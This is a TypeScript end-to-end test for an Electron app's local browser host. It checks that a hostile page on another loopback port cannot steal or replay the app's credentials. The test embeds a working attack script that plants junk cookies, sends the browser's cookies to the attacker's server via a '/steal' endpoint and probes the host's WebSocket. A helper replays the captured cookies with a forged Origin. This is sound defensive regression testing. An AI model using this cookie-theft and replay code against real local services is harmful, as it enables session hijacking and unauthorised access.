import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHost, type StartedHost } from '../../electron/host';
import { HOST_KEY_REFUSED_CODE } from '../../electron/shared/ipc/host-key';
import { launchBrowser, type BrowserSession } from '../helpers/browser';
import { createHostSocket, settleSocket, type SocketOutcome } from '../helpers/host-socket';
import { signIn } from './support/login-page';
import { ownKeychain } from './support/own-keychain';
import { ensureRendererBuilt } from './support/renderer-build';

// Issue 28: a page on another loopback origin the user is lured to, in the same Chromium as the signed-in app.
// Cookies ignore ports, so a cookie credential reached the attacker's own server (`fetch('/steal')`), which then
// replayed it to /ipc with a forged Origin; a planted `fieldkit_<port>=junk; path=/ipc` locked the page out.

/** What the hostile page found out, as it reports it. */
interface HostileReport {
  socket: { opened: boolean; code: number };
  readHostPage: string;
}

declare global {
  interface Window {
    /** Set by the hostile page's script once it has tried the host. */
    hostileReport?: HostileReport;
  }
}

/** What the hostile server saw: the Cookie header of each request its page made to `/steal`. */
interface HostileServer {
  origin: string;
  stolenCookies: string[];
  close(): Promise<void>;
}

/** The attacker's page: plants cookies, sends every cookie it can to its own server, then tries the host itself. */
function hostilePage(hostPort: number): string {
  const script = `
    (async () => {
      for (const path of ['/', '/ipc']) {
        document.cookie = 'fieldkit_${hostPort}=junk; path=' + path;
        document.cookie = 'fieldkit-host-key=junk; path=' + path;
      }
      await fetch('/steal', { credentials: 'include' });
      const socket = await new Promise((resolve) => {
        const webSocket = new WebSocket('ws://127.0.0.1:${hostPort}/ipc', ['fieldkit']);
        let opened = false;
        webSocket.onopen = () => { opened = true; webSocket.send(JSON.stringify({ id: 1, channel: 'session:get' })); };
        webSocket.onmessage = () => resolve({ opened, code: 0 });
        webSocket.onclose = (event) => resolve({ opened, code: event.code });
      });
      const readHostPage = await fetch('http://127.0.0.1:${hostPort}/', { credentials: 'include' })
        .then((answer) => answer.text()).catch((error) => 'refused: ' + error.name);
      window.hostileReport = { socket, readHostPage };
    })();`;
  return `<!doctype html><title>Free stickers</title><script>${script}</script>`;
}

async function startHostileServer(hostPort: number): Promise<HostileServer> {
  const stolenCookies: string[] = [];
  const server: Server = createServer((request: IncomingMessage, response) => {
    if (request.url === '/steal') stolenCookies.push(request.headers.cookie ?? '');
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(request.url === '/' ? hostilePage(hostPort) : 'ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    stolenCookies,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

let dataDir: string;
let host: StartedHost;
let browser: BrowserSession;
let hostile: HostileServer;

beforeAll(async () => {
  const rendererDir = await ensureRendererBuilt();
  dataDir = await mkdtemp(join(tmpdir(), 'fieldkit-e2e-credential-'));
  host = await startHost({
    demo: true,
    dataDir,
    rendererDir,
    credentials: ownKeychain(),
    log: { info: () => undefined, error: () => undefined },
  });
  hostile = await startHostileServer(host.port);
  browser = await launchBrowser();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await hostile?.close();
  await host?.close();
  await rm(dataDir, { recursive: true, force: true });
});

/** Opens the hostile page at `pageOrigin` in a new tab of the user's browser and waits for its report. */
async function visitHostilePage(pageOrigin: string): Promise<HostileReport> {
  const tab = await browser.context.newPage();
  try {
    await tab.goto(`${pageOrigin}/`);
    await tab.waitForFunction(() => 'hostileReport' in window);
    const report = await tab.evaluate(() => window.hostileReport);
    if (!report) throw new Error('The hostile page reported nothing.');
    return report;
  } finally {
    await tab.close();
  }
}

/** Replays what the attacker's server holds to /ipc as a local process would: any Origin, any header. */
async function replay(cookieHeader: string): Promise<SocketOutcome[]> {
  const origin = `http://127.0.0.1:${host.port}`;
  const values = cookieHeader
    .split(';')
    .map((part) => part.trim().split('=').slice(1).join('='))
    .filter((value) => value !== '');
  const attempts = [
    createHostSocket(origin, undefined, { cookie: cookieHeader }),
    ...values.map((value) => createHostSocket(origin, value, { cookie: cookieHeader })),
  ];
  return Promise.all(attempts.map((socket) => settleSocket(socket)));
}

describe('the browser host against a page on another loopback origin', () => {
  it('gives the page on another port nothing it can use, and the signed-in page keeps working', async () => {
    await signIn(browser.page, host.url, /^Use tech@acme\.demo/);
    const otherNames = [hostile.origin, hostile.origin.replace('127.0.0.1', 'localhost')];
    for (const pageOrigin of otherNames) {
      const report = await visitHostilePage(pageOrigin);
      expect(report.socket.opened && report.socket.code === 0, `${pageOrigin}: socket from the page`).toBe(
        false,
      );
      expect(report.readHostPage, `${pageOrigin}: the host's page read`).toMatch(/^refused/);
    }
    expect(hostile.stolenCookies.length).toBe(2);
    for (const stolen of hostile.stolenCookies) {
      for (const outcome of await replay(stolen)) {
        expect(outcome, `replaying ${stolen}`).toMatchObject({ kind: 'closed', code: HOST_KEY_REFUSED_CODE });
      }
    }

    const { page } = browser;
    await page.reload();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    await expect
      .poll(() => page.getByRole('region', { name: 'Session' }).textContent())
      .toContain('tech@acme.demo');
  }, 90_000);

  it("tells a browser without this run's key to open the printed link, in the host's words", async () => {
    const stranger = await launchBrowser();
    try {
      await stranger.page.goto(`http://127.0.0.1:${host.port}/`);
      const banner = stranger.page.getByRole('alert').filter({ hasText: 'refused this page' });
      await banner.waitFor();
      expect(await banner.textContent()).toContain('This page holds no key for this run of Field Kit');
    } finally {
      await stranger.close();
    }
  }, 60_000);
});
